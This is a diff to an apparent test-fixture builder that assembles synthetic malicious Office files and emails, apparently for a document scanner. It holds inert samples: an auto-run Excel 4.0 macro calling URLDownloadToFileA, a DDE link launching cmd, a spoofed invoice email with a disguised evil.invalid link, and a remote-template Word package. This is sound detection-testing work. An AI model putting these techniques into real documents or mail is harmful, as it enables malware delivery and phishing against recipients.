@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import struct
 from dataclasses import dataclass, field
 from typing import Any
@@ -91,7 +92,8 @@ class Compound:
         return header.ljust(self.sector, b"\0") + self.body + allocation
 
     @staticmethod
-    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
+    def entry(name: str, *numbers: int) -> bytes:
+        kind, right, child, start, size = numbers
         raw = (name + "\0").encode("utf-16le")
         head = raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, FREE, right, child)
         return head + b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, start, size)
@@ -131,10 +133,17 @@ def compiled(*texts: bytes) -> bytes:
 
 def vba_storage(modules: dict[str, tuple[str, bytes]], code_page: int = 1252, codec: str = "cp1252") -> Storage:
     """A VBA project: source and p-code by the module's name."""
-    listing = record(0x01, struct.pack("<I", 1)) + record(0x03, struct.pack("<H", code_page)) + record(0x04, b"Project")
-    listing += struct.pack("<HIIH", 0x09, 4, 1, 2)
+    listing = record(0x01, struct.pack("<I", 1)) + record(0x02, struct.pack("<I", 0x409))
+    listing += record(0x14, struct.pack("<I", 0x409)) + record(0x03, struct.pack("<H", code_page))
+    listing += record(0x04, b"Project") + record(0x05, b"") + record(0x40, b"") + record(0x06, b"") + record(0x3D, b"")
+    listing += record(0x07, b"\0" * 4) + record(0x08, b"\0" * 4) + struct.pack("<HIIH", 0x09, 4, 1, 2)
+    listing += record(0x0C, b"") + record(0x3C, b"")
     reference = rb"*\G{00020430-0000-0000-C000-000000000046}#2.0#0#stdole2.tlb#OLE Automation"
-    listing += record(0x16, b"stdole") + record(0x0D, struct.pack("<I", len(reference)) + reference + b"\0" * 6)
+    listing += (
+        record(0x16, b"stdole")
+        + record(0x3E, "stdole".encode("utf-16le"))
+        + record(0x0D, struct.pack("<I", len(reference)) + reference + b"\0" * 6)
+    )
     listing += record(0x0F, struct.pack("<H", len(modules))) + record(0x13, b"\xff\xff")
     streams: Storage = {}
     kinds = ""
@@ -144,9 +153,9 @@ def vba_storage(modules: dict[str, tuple[str, bytes]], code_page: int = 1252, co
         listing += record(0x19, name.encode(codec)) + record(0x47, name.encode("utf-16le"))
         listing += record(0x1A, name.encode(codec)) + record(0x32, name.encode("utf-16le"))
         is_document = name.startswith("This")
-        listing += (
-            record(0x31, struct.pack("<I", len(code))) + record(0x22 if is_document else 0x21, b"") + record(0x2B, b"")
-        )
+        listing += record(0x1C, b"") + record(0x48, b"") + record(0x31, struct.pack("<I", len(code)))
+        listing += record(0x1E, b"\0" * 4) + record(0x2C, b"\xff\xff")
+        listing += record(0x22 if is_document else 0x21, b"") + record(0x2B, b"")
         kinds += f"Document={name}/&H00000000\r\n" if is_document else f"Module={name}\r\n"
     listing += record(0x10, b"")
     version = struct.pack("<HHBH", 0x61CC, 0x97, 0, 0xFFFF)
@@ -220,7 +229,8 @@ def macro_package() -> bytes:
             "xl/workbook.xml": b'<sheets><sheet name="M&amp;M" sheetId="1" state="hidden" r:id="rId1"/></sheets>'
             b'<definedName name="_xlnm.Auto_Open">M!$A$1</definedName>',
             "xl/_rels/workbook.xml.rels": b'<Relationship Id="rId1" Target="macrosheets/sheet1.xml"/>',
-            "xl/macrosheets/sheet1.xml": b'<c r="A1"><f>CALL("urlmon","URLDownloadToFileA")</f></c><c r="A2"><f>HALT()</f></c>',
+            "xl/macrosheets/sheet1.xml": b'<c r="A1"><f>CALL("urlmon","URLDownloadToFileA")</f></c>'
+            b'<c r="A2"><f>HALT()</f></c>',
             "xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>',
         }
     )
@@ -247,8 +257,9 @@ def outlook_message() -> bytes:
 
 
 MAIL = (
-    b"Received: from a.invalid\r\nAuthentication-Results: mx; spf=fail\r\nFrom: =?utf-8?q?B=C3=B6ss?= <a@example.test>\r\n"
-    b"Reply-To: c@other.invalid\r\nTo: b@example.invalid\r\nSubject: =?iso-8859-1?B?SW52b2ljZSDk?=\r\nMIME-Version: 1.0\r\n"
+    b"Received: from a.invalid\r\nAuthentication-Results: mx; spf=fail\r\n"
+    b"From: =?utf-8?q?B=C3=B6ss?= <a@example.test>\r\nReply-To: c@other.invalid\r\nTo: b@example.invalid\r\n"
+    b"Subject: =?iso-8859-1?B?SW52b2ljZSDk?=\r\nMIME-Version: 1.0\r\n"
     b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html; charset=utf-8\r\n"
     b"Content-Transfer-Encoding: quoted-printable\r\n\r\n<a href=3D'http://evil.invalid/'>https://bank.test</a>\r\n--x\r\n"
     b'Content-Type: application/zip; name="a.zip"\r\nContent-Transfer-Encoding: base64\r\n'
@@ -257,8 +268,6 @@ MAIL = (
 
 
 def mail_with_archive() -> bytes:
-    import base64  # noqa: PLC0415  # of this builder alone
-
     archive = documents.archive({"note.txt": b"text\n"})
     return MAIL + base64.encodebytes(archive).replace(b"\n", b"\r\n") + b"--x--\r\n"
 
@@ -299,14 +308,13 @@ def winmail() -> bytes:
 
 def flat_document() -> bytes:
     """Flat OPC: a macro project in base64, and a remote template."""
-    import base64  # noqa: PLC0415  # of this builder alone
-
     project = base64.b64encode(Compound().build(vba_storage(HONEST))).decode()
     return (
         '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
         '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
         f'<pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>{project}</pkg:binaryData></pkg:part>'
         '<pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData><Relationships>'
-        '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://example.invalid/t.dotm" TargetMode="External"/>'
+        '<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://example.invalid/t.dotm" '
+        'TargetMode="External"/>'
         "</Relationships></pkg:xmlData></pkg:part></pkg:package>"
     ).encode()
